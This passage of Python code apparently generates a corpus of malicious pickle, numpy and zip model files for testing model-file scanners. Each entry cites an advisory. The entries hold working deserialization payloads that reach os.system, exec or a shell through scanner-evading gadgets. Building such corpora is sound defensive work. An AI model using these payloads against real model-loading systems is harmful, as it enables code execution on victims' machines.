                  pickle.PUT + b"1\n", pickle.POP, pickle.GET + b"2\n", pickle.GET + b"3\n", pickle.STACK_GLOBAL,
                  pickle.MARK, _unicode0(p.sh), pickle.TUPLE, pickle.REDUCE, pickle.STOP]
    c.add("stack_global_memo_decoy.pkl", b"".join(memo_decoy),
          "STACK_GLOBAL whose names come from memo GETs, next to a decoy torch.LongStorage (no PROTO)", (MS, PS), "pickle",
          (_PS_INIT + " malicious11 (imaginaryctf 'Safe Pickle')", _MS_TEST + " malicious11"))
    c.add("stack_global_memo_trailing_junk.pkl", b"".join(memo_decoy) + b"\n\n\t\t",
          "the memo STACK_GLOBAL payload followed by junk bytes after STOP", (MS, PS), "pickle",
          (_PS_INIT + " malicious-invalid-bytes", _MS_TEST + " malicious14"))
    c.add("stack_global_string_opcodes.pkl",
          _string0("os") + _string0("system") + pickle.STACK_GLOBAL + _string0(p.sh) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP,
          "STACK_GLOBAL fed by protocol-0 STRING opcodes (picklescan GHSA-9gvj-pp9x-gcfr)", (PS,), "pickle",
          (_PS_INIT + " malicious23",))
    c.add("payload_then_memo_keyerror.pkl",
          pickle.PROTO + b"\x04" + pickle.GLOBAL + b"os\nsystem\n" + _unicode0(p.sh) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
          + _sbu("os") + pickle.MEMOIZE + pickle.BINGET + b"\x03" + pickle.BINGET + b"\x00" + pickle.STACK_GLOBAL
          + pickle.BININT1 + b"\x42" + pickle.STOP,
          "os.system runs, then a GET of a memo key never PUT breaks the stream", (PS,), "pickle",
          (_PS_INIT + " keyerror-exploit",))
    c.add("payload_then_type_confusion.pkl",
          pickle.PROTO + b"\x04" + pickle.GLOBAL + b"os\nsystem\n" + _unicode0(p.sh) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
          + pickle.BININT + struct.pack("<i", 42) + pickle.MEMOIZE + _sbu("os") + pickle.MEMOIZE
          + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL + pickle.BININT1 + b"\x42" + pickle.STOP,
          "os.system runs, then STACK_GLOBAL gets an int as its module name", (PS,), "pickle",
          (_PS_INIT + " type-confusion-exploit",))
    run = dumps(Call(Ref("builtins", "exec"), (p.py,)), 3)[:-1]  # no STOP
    c.add("payload_then_truncated.pkl", run + pickle.BINUNICODE + struct.pack("<I", 4000) + b"f = open(",
          "builtins.exec runs, then the stream ends inside a string (a 'broken' pickle, nullifAI style)", (PS,), "pickle",
          (_PS_INIT + " broken_model.pkl",))
    c.add("payload_then_bad_opcode.pkl", run + pickle.POP + b"\xff\xfe" + pickle.STOP,
          "builtins.exec runs, then an opcode that does not exist", (PS,), "pickle", (_PS_TEST + " test_invalid_bytes_err",))
    c.add("second_pickle_appended.pkl", pickle.dumps(["a", "b", "c"], protocol=4) + dumps(p.system(), 4),
          "a benign pickle, then a second pickle that calls posix.system (read by a second pickle.load)", (MS, PS), "pickle",
          (_PS_INIT + " malicious6", _MS_TEST + " malicious6"))
    benign = pickle.dumps({"weights": [0.5, 1.5], "name": "model"}, protocol=2)
    c.add("inject_first_no_pop.pkl", _inject(benign, body(p.system(), 2), pop=False),
          "payload injected before the object with no POP: its result is left on the stack (modelscan PickleInject)", (MS,),
          "pickle", (_MS_INJECT + " PickleInject first=True", _MS_UTILS))
    c.add("inject_last_as_result.pkl", _inject(benign, body(p.system(), 2), first=False, pop=False),
          "payload injected after the object, its result becomes the unpickled value (PickleInject first=False)", (MS,),
          "pickle", (_MS_INJECT + " PickleInject first=False",))
    c.add("inject_eval_run_first.pkl", _inject(benign, body(p.eval(), 2)),
          "fickling's insert_python_eval(run_first=True): eval, POP, then the original object", (FK,), "pickle",
          (_FK_PICKLE + " test_insert",))
    c.add("inject_eval_run_last.pkl", _inject(benign, body(p.eval(), 2), first=False),
          "fickling's insert_python_eval(run_first=False): the original object, then eval and POP", (FK,), "pickle",
          (_FK_PICKLE + " test_insert_run_last",))
    c.add("global_dotted_eval_call_p5.pkl",
          pickle.PROTO + b"\x05" + pickle.GLOBAL + b"builtins\neval.__call__\n" + _unicode0(p.py) + pickle.TUPLE1
          + pickle.REDUCE + pickle.STOP,
          "GLOBAL 'builtins eval.__call__': a dotted name resolved attribute by attribute (protocol >= 4)", (MS,), "pickle",
          (_MS_TEST + " malicious13",))
    c.add("stack_global_dotted_pathlib_os.pkl", dumps(Call(Ref("pathlib", "os.system"), (p.sh,)), 4),
          "STACK_GLOBAL 'pathlib' 'os.system': os.system reached through an innocent module's attribute", (FK, PS), "pickle",
          (_FK_CVE + " CVE-2025-10157 submodule bypass", _PS_INIT + " dotted names (Trace.run, ...)"))
    c.add("stack_global_dotted_os_path_os.pkl", dumps(Call(Ref("os.path", "os.system"), (p.sh,)), 4),
          "STACK_GLOBAL 'os.path' 'os.system' (os.path is posixpath, whose .os is os)", (FK, PS), "pickle",
          (_FK_CVE + " test_submodule_bypass_os_path",))
    override = (pickle.PROTO + b"\x04" + _sbu("sys") + _sbu("modules") + pickle.STACK_GLOBAL
                + _sbu("innocent_name") + _sbu("posixpath") + _sbu("os") + pickle.STACK_GLOBAL + pickle.SETITEM + pickle.POP
                + _sbu("innocent_name") + _sbu("system") + pickle.STACK_GLOBAL + _sbu(p.sh) + pickle.TUPLE1 + pickle.REDUCE
                + pickle.STOP)
    c.add("sys_modules_override.pkl", override,
          "SETITEM sys.modules['innocent_name'] = posixpath.os, then STACK_GLOBAL 'innocent_name' 'system'", (FK, PS),
          "pickle", (_PS_TEST + " sys_module_override_sploit.pkl (binary; technique inferred)",
                     _FK_CVE + " test_nested_module_in_unsafe_namespace"))
    namespace_trick = Build(Build(Call(Ref("argparse", "Namespace")), {"__setstate__": Ref("posix", "system")}), p.sh)
    c.add("build_setstate_trick_p2.pkl", dumps(namespace_trick, 2),
          "BUILD {'__setstate__': posix.system} on an argparse.Namespace, then BUILD(cmd) calls it", (FK,), "pickle",
          (_FK_BYPASS + " GHSA-mhc9-48gj-9gp3 REDUCE+BUILD", _FK_BYPASS + " test_missing_pty_unsafe_imports_ghsa"))
    newobj = Raw(pickle.GLOBAL + b"argparse\nNamespace\n" + pickle.EMPTY_TUPLE + pickle.NEWOBJ)
    c.add("newobj_build_setstate_p2.pkl", dumps(Build(Build(newobj, {"__setstate__": Ref("posix", "system")}), p.sh), 2),
          "NEWOBJ argparse.Namespace, then the BUILD __setstate__ trick", (FK,), "pickle", (_FK_BYPASS + " GHSA-mhc9-48gj-9gp3",))
    newobj_ex = Raw(_sbu("argparse") + _sbu("Namespace") + pickle.STACK_GLOBAL + pickle.EMPTY_TUPLE + pickle.EMPTY_DICT
                    + pickle.NEWOBJ_EX)
    c.add("newobj_ex_build_setstate_p4.pkl",
          dumps(Build(Build(newobj_ex, {"__setstate__": Ref("posix", "system")}), p.sh), 4),
          "NEWOBJ_EX argparse.Namespace, then the BUILD __setstate__ trick", (FK,), "pickle", (_FK_BYPASS + " GHSA-mhc9-48gj-9gp3",))
    inner = dumps(p.system(), 2)
    c.add("pickle_loads_nested_p0.pkl", dumps(Call(Ref("pickle", "loads"), (inner,)), 0),
          "pickle.loads(bytes) of a nested payload pickle; protocol 0, the bytes as _codecs.encode(..., 'latin1')", (PS,),
          "pickle", (_PS_INIT + " malicious13a",))
    c.add("pickle_loads_nested_p4.pkl", dumps(Call(Ref("_pickle", "loads"), (inner,)), 4),
          "_pickle.loads(bytes) of a nested payload pickle, protocol 4", (PS,), "pickle", (_PS_INIT + " malicious13b",))
    inner5 = (pickle.PROTO + b"\x05" + pickle.GLOBAL + b"os\nsystem\n" + _unicode0(p.sh) + pickle.TUPLE1 + pickle.REDUCE
              + pickle.STOP)
    c.add("pickle_loads_binbytes_p5.pkl",
          pickle.PROTO + b"\x05" + pickle.GLOBAL + b"pickle\nloads\n" + pickle.BINBYTES + struct.pack("<I", len(inner5)) + inner5
          + pickle.TUPLE1 + pickle.REDUCE + pickle.POP + pickle.NONE + pickle.STOP,
          "GLOBAL pickle.loads on a BINBYTES nested pickle, result POPped", (MS,), "pickle", (_MS_TEST + " malicious12",))


def _resolvers(c: _Corpus, p: _Payload) -> None:
    """Importers and name resolvers: the dangerous name is data, not a global."""
    os_module = Call(Ref("builtins", "__import__"), ("os",))
    c.add("importlib_import_module.pkl",
          dumps(Call(Call(Ref("builtins", "getattr"), (Call(Ref("importlib", "import_module"), ("os",)), "system")), (p.sh,)), 4),
          "getattr(importlib.import_module('os'), 'system')(cmd)", (FK, PS), "pickle",
          (_FK_BYPASS + " test_missing_importlib", _FK_ATTACK + " test_importlib_import_module", _PS_TEST + " importlib_bypass.pkl"))
    c.add("pkgutil_resolve_name.pkl", dumps(Call(Call(Ref("pkgutil", "resolve_name"), ("os:system",)), (p.sh,)), 4),
          "pkgutil.resolve_name('os:system')(cmd) (picklescan GHSA-vvpj-8cmc-gx39)", (PS,), "pickle",
          (_PS_TEST + " GHSA-vvpj-8cmc-gx39.pkl",))
    c.add("pydoc_locate.pkl", dumps(Call(Call(Ref("pydoc", "locate"), ("os.system",)), (p.sh,)), 5),
          "pydoc.locate('os.system')(cmd)", (FK,), "pickle", (_FK_BYPASS + " test_missing_pydoc", _FK_ATTACK + " test_pydoc_locate"))
    c.add("pydoc_locate_methodcaller.pkl",
          dumps(Call(Call(Ref("operator", "methodcaller"), ("system", p.sh)), (Call(Ref("pydoc", "locate"), ("os",)),)), 4),
          "operator.methodcaller('system', cmd)(pydoc.locate('os'))", (PS,), "pickle", (_PS_INIT + " GHSA-84r2-jw7c-4r5q",))
    c.add("operator_attrgetter.pkl",
          dumps(Call(Call(Ref("operator", "attrgetter"), ("system",)), (os_module,)), 4)[:-1]
          + body((p.sh,), 4) + pickle.REDUCE + pickle.STOP,
          "operator.attrgetter('system')(__import__('os'))(cmd)", (PS,), "pickle", (_PS_INIT + " malicious12 (pickleassem)",))
    c.add("_operator_attrgetter.pkl", dumps(Call(Call(Call(Ref("_operator", "attrgetter"), ("system",)), (os_module,)), (p.sh,)), 2),
          "_operator.attrgetter (the C module's name) fetching os.system", (PS,), "pickle", (_PS_TEST + " GHSA-46h3-79wf-xr6c",))
    c.add("_operator_methodcaller.pkl",
          pickle.GLOBAL + b"builtins\n__import__\n" + pickle.MARK + _unicode0("os") + pickle.TUPLE + pickle.REDUCE
          + pickle.PUT + b"0\n" + pickle.POP + pickle.GLOBAL + b"_operator\nmethodcaller\n" + pickle.MARK + _unicode0("system")
          + _unicode0(p.sh) + pickle.TUPLE + pickle.REDUCE + pickle.MARK + pickle.GET + b"0\n" + pickle.TUPLE + pickle.REDUCE
          + pickle.STOP,
          "_operator.methodcaller('system', cmd)(__import__('os')) through the memo", (FK, PS), "pickle",
          (_FK_BYPASS + " test_operator_methodcaller", _PS_TEST + " GHSA-955r-x9j8-7rhh"))
    c.add("functools_partial_system.pkl", dumps(Call(Call(Ref("functools", "partial"), (Ref("posix", "system"), p.sh))), 2),
          "functools.partial(posix.system, cmd)()", (PS,), "pickle", (_PS_INIT + " Malicious19 (partial)",))
    c.add("cloudpickle_subimport.pkl",
          dumps(Call(Call(Ref("_operator", "methodcaller"), ("system", p.sh)),
                     (Call(Ref("cloudpickle.cloudpickle", "subimport"), ("os",)),)), 4),
          "cloudpickle.cloudpickle.subimport('os') (needs cloudpickle installed), then methodcaller('system', cmd)", (PS,),
          "pickle", (_PS_TEST + " cloudpickle_codeinjection.pkl",))
    code = marshal.dumps(compile(p.py, "<corpus>", "exec"))
    fn = Call(Ref("types", "FunctionType"), (Call(Ref("marshal", "loads"), (code,)), {}))
    c.add("marshal_function_type.pkl", dumps(Call(fn), 4),
          "types.FunctionType(marshal.loads(code bytes), {})() -- the bytes only load in the Python that wrote them",
          (FK, PS), "pickle", (_FK_BYPASS + " test_missing_marshal_and_types", _FK_ATTACK + " test_marshal_loads",
                               _PS_TEST + " marshal_bypass.pkl / types_CodeType.pkl"))
    libc = Call(Ref("ctypes", "CDLL"), (None,))
    c.add("ctypes_cdll_system.pkl", dumps(Call(Call(Ref("builtins", "getattr"), (libc, "system")), (p.sh.encode(),)), 5),
          "getattr(ctypes.CDLL(None), 'system')(cmd): libc's system through ctypes", (MS, FK, PS), "pickle",
          (_FK_BYPASS + " test_missing_ctypes", _PS_INIT + " GHSA-4675-36f9-wf6r", _MS_CTYPES))


def _exec_gadgets(c: _Corpus, p: _Payload) -> None:
    """Standard-library functions that exec a string."""
    plain: list[tuple[str, Ref, tuple, str, tuple[str, ...], tuple[str, ...]]] = [
        ("runpy_run_code.pkl", Ref("runpy", "_run_code"), (p.py, {}), "runpy._run_code(code, {})", (MS, FK, PS),
         (_PS_INIT + " Malicious14", _MS_INJECT + " RunPyInject", _FK_CVE + " test_runpy_submodules")),
        ("cprofile_run.pkl", Ref("cProfile", "run"), (p.py,), "cProfile.run(code)", (FK, PS),
         (_FK_BYPASS + " test_missing_cprofile", _PS_INIT + " GHSA-49gj-c84q-6qm9")),
        ("cprofile_runctx.pkl", Ref("cProfile", "runctx"), (p.py, None, None), "cProfile.runctx(code, None, None)", (PS,),
         (_PS_INIT + " GHSA-9w88-8rmg-7g2p",)),
        ("profile_run.pkl", Ref("profile", "run"), (p.py,), "profile.run(code)", (PS,), (_PS_TEST + " GHSA-7wx9-6375-f5wh.pkl",)),
        ("doctest_debug_script.pkl", Ref("doctest", "debug_script"), (p.py, True), "doctest.debug_script(code, pm=True)", (PS,),
         (_PS_INIT + " GHSA-fqq6-7vqf-w3fg",)),
        ("timeit_setup.pkl", Ref("timeit", "timeit"), ("", p.py), "timeit.timeit('', setup=code)", (PS,),
         (_PS_INIT + " Malicious21",)),
        ("numpy_runstring.pkl", Ref("numpy.testing._private.utils", "runstring"), (p.py, {}),
         "numpy.testing._private.utils.runstring(code, {})", (PS,), (_PS_INIT + " Malicious22",)),
        ("numpy_f2py_getlincoef.pkl", Ref("numpy.f2py.crackfortran", "getlincoef"), (p.py, []),
         "numpy.f2py.crackfortran.getlincoef(expr, []) evals expr", (FK, PS),
         (_PS_INIT + " GHSA-r8g5-cgf2-4m4m", _FK_BYPASS + " test_numpy_f2py_getlincoef")),
    ]
    for name, ref, args, what, peers, sources in plain:
        c.add(name, dumps(Call(ref, args), 4), what, peers, "pickle", sources)
    # methods called unbound on an instance (or a namespace standing in for one); dotted names need protocol 4
    methods: list[tuple[str, Ref, Any, tuple, str, tuple[str, ...], tuple[str, ...]]] = [
        ("bdb_run.pkl", Ref("bdb", "Bdb.run"), Call(Ref("bdb", "Bdb")), (p.py,), "bdb.Bdb.run(Bdb(), code)", (MS, PS),
         (_PS_INIT + " Malicious15", _MS_TEST + " malicious15")),
        ("profile_profile_run.pkl", Ref("profile", "Profile.run"), Call(Ref("profile", "Profile")), (p.py,),
         "profile.Profile.run(Profile(), code)", (PS,), (_PS_INIT + " GHSA-x696-vm39-cp64",)),
        ("profile_profile_runctx.pkl", Ref("profile", "Profile.runctx"), Call(Ref("profile", "Profile")), (p.py, {}, {}),
         "profile.Profile.runctx(Profile(), code, {}, {})", (PS,), (_PS_INIT + " GHSA-6vqj-c2q5-j97w",)),
        ("trace_run.pkl", Ref("trace", "Trace.run"), Call(Ref("trace", "Trace"), (0, 0)), (p.py,),
         "trace.Trace.run(Trace(0, 0), code)", (PS,), (_PS_INIT + " GHSA-5qwp-399c-mjwf",)),
        ("trace_runctx.pkl", Ref("trace", "Trace.runctx"), Call(Ref("trace", "Trace"), (0, 0)), (p.py, {}, {}),
         "trace.Trace.runctx(Trace(0, 0), code, {}, {})", (PS,), (_PS_INIT + " GHSA-g344-hcph-8vgg",)),
        ("code_interpreter_runcode.pkl", Ref("code", "InteractiveInterpreter.runcode"),
         Call(Ref("code", "InteractiveInterpreter")), (p.py,), "code.InteractiveInterpreter.runcode(InteractiveInterpreter(), code)",
         (FK, PS), (_PS_INIT + " GHSA-cj3c-v495-4xqh", _FK_ATTACK + " test_code_interactiveinterpreter")),
        ("idlelib_debugobj_settext.pkl", Ref("idlelib.debugobj", "ObjectTreeItem.SetText"), {}, (p.py,),
         "idlelib.debugobj.ObjectTreeItem.SetText({}, expr) evals expr", (PS,), (_PS_INIT + " GHSA-3vg9-h568-4w9m",)),
        ("idlelib_autocomplete_get_entity.pkl", Ref("idlelib.autocomplete", "AutoComplete.get_entity"), {}, (p.py,),
         "idlelib.autocomplete.AutoComplete.get_entity({}, expr) evals expr", (PS,), (_PS_INIT + " GHSA-6w4w-5w54-rjvr",)),
        ("idlelib_autocomplete_fetch_completions.pkl", Ref("idlelib.autocomplete", "AutoComplete.fetch_completions"),
         Call(Ref("idlelib.autocomplete", "AutoComplete")), (p.py, 0),
         "idlelib AutoComplete.fetch_completions(AutoComplete(), expr, ATTRS) evals expr", (PS,),
         (_PS_INIT + " GHSA-7cq8-mj8x-j263",)),
        ("idlelib_calltip_fetch_tip.pkl", Ref("idlelib.calltip", "Calltip.fetch_tip"), {}, (p.py,),
         "idlelib.calltip.Calltip.fetch_tip({}, expr) evals expr", (PS,), (_PS_INIT + " GHSA-8r4j-24qv-fmq9",)),
        ("idlelib_run_executive_runcode.pkl", Ref("idlelib.run", "Executive.runcode"), _namespace(locals={}), (p.py,),
         "idlelib.run.Executive.runcode(namespace(locals={}), code)", (PS,), (_PS_INIT + " GHSA-m869-42cg-3xwr",)),
        ("idlelib_pyshell_runcommand.pkl", Ref("idlelib.pyshell", "ModifiedInterpreter.runcommand"),
         _namespace(tkconsole=_namespace(executing=False), rpcclt=None, locals={}), (p.py,),
         "idlelib.pyshell.ModifiedInterpreter.runcommand(namespace, code)", (PS,), (_PS_INIT + " GHSA-j343-8v2j-ff7w",)),
        ("idlelib_pyshell_runcode.pkl", Ref("idlelib.pyshell", "ModifiedInterpreter.runcode"),
         _namespace(tkconsole=_namespace(executing=False, beginexecuting=Ref("builtins", "object"),
                                         endexecuting=Ref("builtins", "object"), closing=False),
                    checklinecache=Ref("builtins", "object"), debugger=None, rpcclt=None, locals={}),
         (p.py,), "idlelib.pyshell.ModifiedInterpreter.runcode(namespace, code)", (PS,), (_PS_INIT + " GHSA-3gf5-cxq9-w223",)),
        ("lib2to3_make_label.pkl", Ref("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None,
         (_namespace(labels=[], keywords={}), f'""+str({p.py})'),
         "lib2to3 ParserGenerator.make_label(None, c, label) evals label (Python <= 3.12)", (PS,),
         (_PS_INIT + " GHSA-p9w7-82w4-7q8m",)),
    ]
    for name, ref, self_arg, args, what, peers, sources in methods:
        c.add(name, dumps(Call(ref, (self_arg, *args)), 4), what, peers, "pickle", sources)
    c.add("idlelib_calltip_get_entity.pkl", dumps(Call(Ref("idlelib.calltip", "get_entity"), (p.py,)), 4),
          "idlelib.calltip.get_entity(expr) evals expr", (PS,), "pickle", (_PS_INIT + " GHSA-9xph-j2h6-g47v",))
    c.add("code_interpreter_runsource.pkl",
          dumps(Call(Call(Ref("builtins", "getattr"), (Call(Ref("code", "InteractiveInterpreter")), "runsource")), (p.py,)), 5),
          "getattr(code.InteractiveInterpreter(), 'runsource')(code)", (FK,), "pickle", (_FK_BYPASS + " test_missing_code",))
    nested = dumps(p.system(), 2)
    for name, ref, args, what, sources in (
        ("lib2to3_grammar_loads.pkl", Ref("lib2to3.pgen2.grammar", "Grammar.loads"), (_namespace(), nested),
         "lib2to3 Grammar.loads(namespace, pickle) unpickles a nested payload (Python <= 3.12)", (_PS_INIT + " GHSA-f54q-57x4-jg88",)),
        ("torch_config_module_load_config.pkl", Ref("torch.utils._config_module", "ConfigModule.load_config"), ({}, nested),
         "torch ConfigModule.load_config({}, pickle) unpickles a nested payload", (_PS_INIT + " GHSA-vv6j-3g6g-2pvj",)),
        ("torch_datapipes_basichandlers.pkl", Ref("torch.utils.data.datapipes.utils.decoder", "basichandlers"), ("pickle", nested),
         "torch datapipes decoder.basichandlers('pickle', bytes) unpickles a nested payload", (_PS_INIT + " GHSA-h3qp-7fh3-f8h4",)),
    ):
        c.add(name, dumps(Call(ref, args), 4), what, (PS,), "pickle", sources)


def _process_and_file_gadgets(c: _Corpus, p: _Payload) -> None:
    """Standard-library functions that start a process or create a file."""
    for name, value, what, peers, sources in (
        ("uuid_get_command_stdout.pkl", Call(Ref("uuid", "_get_command_stdout"), tuple(p.argv)),
         "uuid._get_command_stdout('touch', path) runs a program", (PS,), (_PS_TEST + " GHSA-g38g-8gr9-h9xp-uuid.pkl",)),
        ("osx_support_read_output.pkl", Call(Ref("_osx_support", "_read_output"), (p.sh,)),
         "_osx_support._read_output(cmd) runs os.system (importable on every platform)", (PS,),
         (_PS_TEST + " GHSA-g38g-8gr9-h9xp-osx-support.pkl",)),
        ("aix_support_read_cmd_output.pkl", Call(Ref("_aix_support", "_read_cmd_output"), (p.sh,)),
         "_aix_support._read_cmd_output(cmd) runs os.system (Python >= 3.12)", (PS,),
         (_PS_TEST + " GHSA-g38g-8gr9-h9xp-aix-support.pkl",)),
        ("pyrepl_pager_pipe_pager.pkl", Call(Ref("_pyrepl.pager", "pipe_pager"), ("", p.sh)),
         "_pyrepl.pager.pipe_pager(text, cmd) runs a shell (Python >= 3.13)", (PS,),
         (_PS_TEST + " GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl",)),
        ("imaplib_imap4_stream.pkl", Call(Ref("imaplib", "IMAP4_stream"), (p.sh,)),
         "imaplib.IMAP4_stream(cmd) starts cmd through a shell", (PS,), (_PS_TEST + " GHSA-g38g-8gr9-h9xp-imaplib.pkl",)),
        ("test_support_assert_python_ok.pkl", Call(Ref("test.support.script_helper", "assert_python_ok"), ("-c", p.py)),
         "test.support.script_helper.assert_python_ok('-c', code) spawns python", (PS,),
         (_PS_TEST + " GHSA-g38g-8gr9-h9xp-test.pkl",)),
        ("pydoc_pipepager.pkl", Call(Ref("pydoc", "pipepager"), ("", p.sh)), "pydoc.pipepager(text, cmd) runs a shell (Python <= 3.12)",
         (PS,), (_PS_INIT + " Malicious18",)),
        ("asyncio_subprocess_start.pkl",
         Call(Ref("asyncio.unix_events", "_UnixSubprocessTransport._start"), ({}, p.sh, True, None, None, None, 0)),
         "asyncio _UnixSubprocessTransport._start({}, cmd, shell=True, ...) runs Popen before it fails", (FK, PS),
         (_PS_INIT + " GHSA-q77w-mwjj-7mqx", _FK_BYPASS + " test_asyncio_subprocess")),
        ("multiprocessing_spawnv_passfds.pkl",
         Call(Ref("multiprocessing.util", "spawnv_passfds"), (b"/bin/sh", [b"/bin/sh", b"-c", p.sh.encode()], ())),
         "multiprocessing.util.spawnv_passfds('/bin/sh', [..., cmd], ())", (FK,),
         (_FK_BYPASS + " test_missing_multiprocessing", _FK_ATTACK + " test_multiprocessing_util_spawnv_passfds")),
        ("ensurepip_run_pip.pkl", Call(Ref("ensurepip", "_run_pip"), (f"[]; {p.py}; sys.exit(0)",)),
         "ensurepip._run_pip(args) formats args into the code of a python subprocess", (PS,), (_PS_INIT + " GHSA-xp4f-hrf8-rxw7",)),
        ("mailcap_findmatch.pkl",
         Call(Ref("mailcap", "findmatch"), ({"text/plain": [{"view": "true", "test": p.sh}]}, "text/plain")),
         "mailcap.findmatch runs the entry's 'test' command with os.system (Python <= 3.12)", (MS,),
         (_MS_MAILCAP + " test_scan_flags_mailcap_findmatch",)),
        ("distutils_write_file.pkl", Call(Ref("distutils.file_util", "write_file"), (p.path, [])),
         "distutils.file_util.write_file(path, []) creates a file (Python <= 3.11, or setuptools' distutils)", (FK, PS),
         (_PS_INIT + " GHSA-m273-6v24-x4m4", _FK_BYPASS + " test_distutils_write_file")),
        ("io_fileio.pkl", Call(Ref("_io", "FileIO"), (p.path, "a")), "_io.FileIO(path, 'a') creates a file", (FK, PS),
         (_PS_INIT + " reduce_io_FileIO", _FK_BYPASS + " test_io_fileio")),
        ("builtins_open.pkl", Call(Ref("builtins", "open"), (p.path, "a")), "builtins.open(path, 'a') creates a file", (FK, PS),
         (_FK_BYPASS + " test_io_fileio (variant)", _PS_INIT + " reduce_io_FileIO (variant)")),
        ("logging_file_handler.pkl", Call(Ref("logging", "FileHandler"), (p.path,)),
         "logging.FileHandler(path) creates the file", (PS,), (_PS_TEST + " logging_FileHandler.pkl",)),
    ):
        c.add(name, dumps(value, 4), what, peers, "pickle", sources)


def _torch_gadgets(c: _Corpus, p: _Payload) -> None:
    """torch functions that exec, eval or run a command (several only in older torch)."""
    for name, value, what in (
        ("torch_inductor_compile_file.pkl", Call(Ref("torch._inductor.codecache", "compile_file"), ("", "", p.argv)),
         "torch._inductor.codecache.compile_file('', '', argv) runs argv (torch versions that have it)"),
        ("torch_bottleneck_run_cprofile.pkl", Call(Ref("torch.utils.bottleneck.__main__", "run_cprofile"), (p.py, {})),
         "torch.utils.bottleneck.__main__.run_cprofile(code, {}) (torch versions that have it)"),
        ("torch_bottleneck_run_autograd_prof.pkl", Call(Ref("torch.utils.bottleneck.__main__", "run_autograd_prof"), (p.py, {})),
         "torch.utils.bottleneck.__main__.run_autograd_prof(code, {}) (torch versions that have it)"),
        ("torch_dynamo_guardbuilder_get.pkl", Call(Ref("torch._dynamo.guards", "GuardBuilder.get"), (_namespace(scope={}), p.py)),
         "torch._dynamo.guards.GuardBuilder.get(namespace(scope={}), expr) evals expr (older torch)"),
        ("torch_symbolic_shapes_eval_guards.pkl",
         Call(Ref("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"), ({}, p.py, [])),
         "torch ShapeEnv.evaluate_guards_expression({}, expr, []) evals expr"),
        ("torch_collect_env_run.pkl", Call(Ref("torch.utils.collect_env", "run"), (p.sh,)),
         "torch.utils.collect_env.run(cmd) runs a shell"),
        ("torch_collect_env_run_and_read_all.pkl",
         Call(Ref("torch.utils.collect_env", "run_and_read_all"), (Ref("torch.utils.collect_env", "run"), p.sh)),
         "torch.utils.collect_env.run_and_read_all(run, cmd)"),
        ("torch_jit_execwrapper.pkl", Call(Ref("torch.jit.unsupported_tensor_ops", "execWrapper"), (p.py, {}, {})),
         "torch.jit.unsupported_tensor_ops.execWrapper(code, {}, {}) execs code"),
    ):
        c.add(name, dumps(value, 4), what, (PS,), "pickle", (_PS_INIT + " (torch gadgets: Malicious17, GHSA-4r9r, -4whj, -86cj, "
                                                            "-f4x7, -f745, -jhph, -vr7h)",))
    partial = Build(Call(Ref("functools", "partial"), (Ref("torch.serialization", "load"),)),
                    (Ref("torch.serialization", "load"), (str(c.directory / "torch_zip_inject_first.pt"),),
                     {"weights_only": False}, None))
    c.add("functools_partial_torch_load.pkl", dumps(Call(partial), 4),
          "functools.partial(torch.serialization.load, <another corpus file>, weights_only=False)() loads a payload file",
          (PS,), "pickle", (_PS_INIT + " Malicious19",))


def _numpy_files(c: _Corpus, p: _Payload) -> None:
    import numpy as np

    def npy(array: Any) -> bytes:
        buf = io.BytesIO()
        np.save(buf, array, allow_pickle=True)
        return buf.getvalue()

    import os

    payload_array: Any = np.empty(1, dtype=object)
    payload_array[0] = _ReduceTo(os.system, (p.sh,))
    c.add("object_array_payload.npy", npy(payload_array),
          "a .npy object array whose element reduces to posix.system (numpy.load(allow_pickle=True))", (MS, PS), "numpy",
          (_PS_TEST + " dns_exfiltration.npy", _MS_TEST + " test_scan_numpy"))
    c.add("object_array_header_exec.npy",
          _npy({"descr": "|O", "fortran_order": False, "shape": (1,)}, dumps([Call(Ref("builtins", "exec"), (p.py,))], 3)),
          "a hand-made .npy header declaring an object array, then a pickle that calls builtins.exec", (MS, PS), "numpy",
          (_PS_TEST + " dns_exfiltration.npy", _MS_TEST + " test_scan_numpy"))
    benign = pickle.dumps(np.array([[1, 2, 3], [4, 5, 6]]), protocol=2)
    c.add("raw_pickle_named.npy", _inject(benign, body(Call(Ref("builtins", "exec"), (p.py,)), 2), pop=False),
          "a raw pickle (no .npy header) named .npy: builtins.exec injected before a numpy array", (MS,), "pickle",
          (_MS_TEST + " unsafe_numpy.npy (generate_unsafe_pickle_file)",))
    npz = _zip([("a.npy", npy(np.arange(3))), ("b.npy", npy(payload_array))], zipfile.ZIP_DEFLATED)
    c.add("object_arrays_payload.npz", npz, "an .npz whose second array is an object array reducing to posix.system",
          (PS,), "zip_other", (_PS_TEST + " object_arrays.npz / test_scan_file_path_npz (variant)",))


def _zips(c: _Corpus, p: _Payload) -> None:
    """Pickles inside zips that are not torch archives."""
    eval_p4 = dumps(p.eval(), 4)
    c.add("zip_data_pkl.zip", _zip([("data.pkl", eval_p4)]), "a zip holding data.pkl (builtins.eval) at its root",
          (MS, FK, PS), "zip_other", (_PS_INIT + " malicious1.zip", _MS_TEST + " test_scan_zip", _FK_ARCHIVE + " test_malicious_pickle_in_zip"))
    c.add("zip_pickle_named_txt.zip", _zip([("data.txt", eval_p4)]), "a zip whose pickle member is named data.txt",
          (PS,), "zip_other", (_PS_INIT + " malicious1_wrong_ext.zip",))
    safe = pickle.dumps([1, 2, 3], protocol=4)
    c.add("zip_mixed_pickles.zip", _zip([("data/safe_model.pkl", safe), ("data/payload.pkl", eval_p4), ("data/another_safe.pkl", safe)]),
          "a zip of three pickles, one of them a payload", (FK,), "zip_other", (_FK_ARCHIVE + " test_zip_with_multiple_pickles_mixed",))
    c.add("zip_deep_nested.zip", _zip([("level1/level2/level3/level4/deep_model.pkl", dumps(Call(Ref("subprocess", "call"), (p.argv,)), 4))],
                                      zipfile.ZIP_DEFLATED),
          "a deflated zip with the payload pickle four directories down", (FK,), "zip_other",
          (_FK_ARCHIVE + " test_deeply_nested_malicious_pickle / test_malicious_pickle_in_nested_zip_path",))


def _torch_zips(c: _Corpus, p: _Payload) -> None:
    """Payloads in torch.save zip archives (torch.load(weights_only=False) runs data.pkl)."""
    real = _torch_save(_state_dict())
    data_pkl = _record(real, "/data.pkl")
    system2 = body(p.system(), 2)
